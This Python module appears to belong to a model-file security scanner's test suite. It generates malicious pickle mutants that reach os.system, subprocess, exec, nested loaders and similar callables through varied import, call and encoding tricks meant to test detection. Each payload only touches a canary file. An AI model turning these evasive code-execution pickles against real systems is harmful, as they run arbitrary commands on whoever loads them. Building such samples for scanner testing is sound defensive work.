"""A mutation engine: malicious pickles composed from independent axes.

Each mutant is one choice on every axis:

- a **target**: a callable that creates the canary when called (``os.system``,
  ``subprocess.run``, ``exec``, ``open``, ``logging.FileHandler``,
  ``numpy.memmap``, ``torch.save``, a nested ``pickle.loads``/``numpy.load``/
  ``joblib.load`` of a second payload...);
- an **access** path that puts it on the stack (GLOBAL, STACK_GLOBAL, names
  fetched from the memo, protocol-0 STRING names, ``importlib.import_module`` +
  ``getattr``, ``builtins.__import__``, ``pydoc.locate``, ``operator.attrgetter``);
- a **call** path (REDUCE, OBJ, INST, ``functools.partial`` filled by BUILD's
  ``__setstate__``, torch's ``_rebuild_from_type_v2``, ``copy._reconstruct``);
- an **encoding** (protocol 0-5, PROTO header or none or FRAME first, clean,
  garbage after STOP, or broken right after the payload);
- a **container** (:mod:`trainguard.samples.mutation_containers`).

Every mutant is a :class:`~trainguard.samples.base.Sample` whose payload only
creates its canary, so ``tests/test_samples_fire.py``'s harness proves it fires
under its real loader in a subprocess.  Nothing here loads anything.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from trainguard.samples.assembler import Const, PickleAsm
from trainguard.samples.base import Sample, py_touch, sh_touch

# Writes any side files a target needs (a nested payload) and returns its arguments.
ArgsFor = Callable[[Path, Path], tuple[Const, ...]]


@dataclass(frozen=True)
class Target:
    module: str
    name: str
    args: ArgsFor
    requires: tuple[str, ...] = ()
    bytes_at: int = -1  # this argument is bytes (pushed via _codecs.encode, any protocol)


def _inner_p0(canary: Path) -> str:
    """A protocol-0 payload as text (ASCII), for the nested loaders."""
    return f"cposix\nsystem\n(S{sh_touch(canary)!r}\ntR."


def _nested_file(suffix: str, header: bytes = b"") -> ArgsFor:
    def args(folder: Path, canary: Path) -> tuple[Const, ...]:
        path = folder / f"nested{suffix}"
        path.write_bytes(header + _inner_p0(canary).encode())
        extra: tuple[Const, ...] = (None, True) if suffix == ".npy" else ()
        return (str(path), *extra)

    return args


def _npy_header() -> bytes:
    text = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    text += " " * (63 - (10 + len(text)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text.encode()


TARGETS: dict[str, Target] = {
    "os.system": Target("os", "system", lambda f, c: (sh_touch(c),)),
    "posix.system": Target("posix", "system", lambda f, c: (sh_touch(c),)),
    "os.popen": Target("os", "popen", lambda f, c: (sh_touch(c),)),
    "subprocess.run": Target("subprocess", "run", lambda f, c: (["touch", str(c)],)),
    "subprocess.check_output": Target(
        "subprocess", "check_output", lambda f, c: (["touch", str(c)],)
    ),
    "subprocess.getoutput": Target("subprocess", "getoutput", lambda f, c: (sh_touch(c),)),
    "builtins.exec": Target("builtins", "exec", lambda f, c: (py_touch(c),)),
    "builtins.eval": Target("builtins", "eval", lambda f, c: (f"open({str(c)!r}, 'w').close()",)),
    "builtins.open": Target("builtins", "open", lambda f, c: (str(c), "w")),
    "io.open": Target("io", "open", lambda f, c: (str(c), "w")),
    "codecs.open": Target("codecs", "open", lambda f, c: (str(c), "w")),
    "cProfile.run": Target("cProfile", "run", lambda f, c: (py_touch(c),)),
    "logging.FileHandler": Target("logging", "FileHandler", lambda f, c: (str(c),)),
    "numpy.memmap": Target(
        "numpy", "memmap", lambda f, c: (str(c), "uint8", "w+", 0, (1,)), ("numpy",)
    ),
    "torch.save": Target("torch", "save", lambda f, c: (0, str(c)), ("torch",)),
    "pickle.loads": Target("pickle", "loads", lambda f, c: (_inner_p0(c),), bytes_at=0),
    # Ordinary third-party functions that run what they are given: an expression
    # evaluator, a test helper that runs a script, a data-pipe decoder that unpickles.
    "sympy.sympify": Target(
        "sympy", "sympify", lambda f, c: (f"__import__('os').system({sh_touch(c)!r})",), ("sympy",)
    ),
    "sklearn.run_script": Target(
        "sklearn.utils._testing",
        "assert_run_python_script_without_output",
        lambda f, c: (py_touch(c),),
        ("sklearn",),
    ),
    "datapipes.basichandlers": Target(
        "torch.utils.data.datapipes.utils.decoder",
        "basichandlers",
        lambda f, c: ("pickle", _inner_p0(c)),
        ("torch",),
        bytes_at=1,
    ),
    "numpy.load": Target("numpy", "load", _nested_file(".npy", _npy_header()), ("numpy",)),
    "joblib.load": Target("joblib", "load", _nested_file(".pkl"), ("joblib",)),
}

ACCESS = (
    "global",
    "stack_global",
    "stack_global_memo",
    "string_names",
    "import_module",
    "dunder_import",
    "locate",
    "attrgetter",
)
CALLS = ("reduce", "obj", "inst", "partial_build", "rebuild_from_type", "copy_reconstruct")
FRAMING = ("none", "proto", "frame_first")
TAILS = ("clean", "garbage", "broken")


@dataclass(frozen=True)
class Encoding:
    protocol: int
    framing: str
    tail: str

    def label(self) -> str:
        return f"p{self.protocol}-{self.framing}-{self.tail}"


def valid(target: str, access: str, call: str) -> bool:
    """Combinations a real unpickler can run (INST names its own global)."""
    if call == "inst":
        return access == "global"
    return True


def emit_access(a: PickleAsm, t: Target, access: str, memo: list[int]) -> None:
    """Leave the target callable on the stack."""
    mod, name = t.module, t.name
    if access == "global":
        a.global_(mod, name)
    elif access == "stack_global":
        a.str_(mod).str_(name).stack_global()
    elif access == "stack_global_memo":
        i = memo[0]
        memo[0] += 2
        a.str_(mod)
        _put(a, i)
        a.pop().str_(name)
        _put(a, i + 1)
        a.pop()
        _get(a, i)
        _get(a, i + 1)
        a.stack_global()
    elif access == "string_names":
        a.string(mod).string(name).stack_global()
    elif access in ("import_module", "dunder_import"):
        a.global_("builtins", "getattr").mark()
        if access == "import_module":
            a.global_("importlib", "import_module").args(mod).reduce()
        else:
            a.global_("builtins", "__import__").mark()
            a.str_(mod).none().none().mark().str_("x").tuple_().tuple_().reduce()
        a.str_(name).tuple_().reduce()
    elif access == "locate":
        a.global_("pydoc", "locate").args(f"{mod}.{name}").reduce()
    elif access == "attrgetter":
        a.global_("operator", "attrgetter").args(name).reduce()
        a.mark().global_("importlib", "import_module").args(mod).reduce().tuple_().reduce()
    else:
        raise ValueError(access)


def _put(a: PickleAsm, i: int) -> None:
    a.put(i) if a.protocol == 0 else a.binput(i)


def _get(a: PickleAsm, i: int) -> None:
    a.get(i) if a.protocol == 0 else a.binget(i)


def _push_items(a: PickleAsm, t: Target, args: tuple[Const, ...]) -> None:
    """The arguments as separate stack items (bytes built by _codecs.encode, any protocol)."""
    for i, value in enumerate(args):
        if i == t.bytes_at:
            a.global_("_codecs", "encode").args(value, "latin1").reduce()  # bytes in any protocol
        else:
            a.push(value)


def _push_tuple(a: PickleAsm, t: Target, args: tuple[Const, ...]) -> None:
    a.mark()
    _push_items(a, t, args)
    a.tuple_()


def payload(t: Target, access: str, call: str, enc: Encoding, folder: Path, canary: Path) -> bytes:
    """The pickle bytes of one mutant (its side files are written into ``folder``)."""
    args = t.args(folder, canary)
    a = PickleAsm(enc.protocol)
    if enc.framing == "proto":
        a.proto(enc.protocol)
    memo = [1]
    if call == "reduce":
        emit_access(a, t, access, memo)
        _push_tuple(a, t, args)
        a.reduce()
    elif call == "obj":
        a.mark()
        emit_access(a, t, access, memo)
        _push_items(a, t, args)
        a.obj()
    elif call == "inst":
        a.mark()
        _push_items(a, t, args)
        a.inst(t.module, t.name)
    elif call == "partial_build":
        # partial(print), then __setstate__((target, args, None, None)), then call it.
        a.global_("functools", "partial").mark().global_("builtins", "print").tuple_().newobj()
        a.mark()
        emit_access(a, t, access, memo)
        _push_tuple(a, t, args)
        a.none().none().tuple_().build()
        a.mark().tuple_().reduce()
    elif call == "rebuild_from_type":
        a.global_("torch._tensor", "_rebuild_from_type_v2").mark()
        emit_access(a, t, access, memo)
        a.global_("torch", "Tensor")
        _push_tuple(a, t, args)
        a.none().tuple_().reduce()
    elif call == "copy_reconstruct":
        a.global_("copy", "_reconstruct").mark().none().none()
        emit_access(a, t, access, memo)
        _push_tuple(a, t, args)
        a.tuple_().reduce()
    else:
        raise ValueError(call)
    body = a.stop().getvalue()
    if enc.framing == "frame_first":
        body = b"\x95" + len(body).to_bytes(8, "little") + body
    if enc.tail == "garbage":
        body += bytes(random.Random(len(body)).randrange(256) for _ in range(16))
    elif enc.tail == "broken":
        body = body[:-1] + b"\xff\xfe"
    return body


def sample_for(
    target: str,
    access: str,
    call: str,
    enc: Encoding,
    container: str,
    loader: str,
    wrap: Callable[[bytes, Path], Path],
    requires: tuple[str, ...],
) -> Sample:
    t = TARGETS[target]

    def build(folder: Path, canary: Path) -> Path:
        return wrap(payload(t, access, call, enc, folder, canary), folder)

    ident = f"mut-{target}-{access}-{call}-{enc.label()}-{container}"
    needs = tuple(
        dict.fromkeys((*t.requires, *requires, *(("torch",) if "rebuild" in call else ())))
    )
    return Sample(ident, ident, "generated mutant", "", loader, True, True, "high", needs, build)
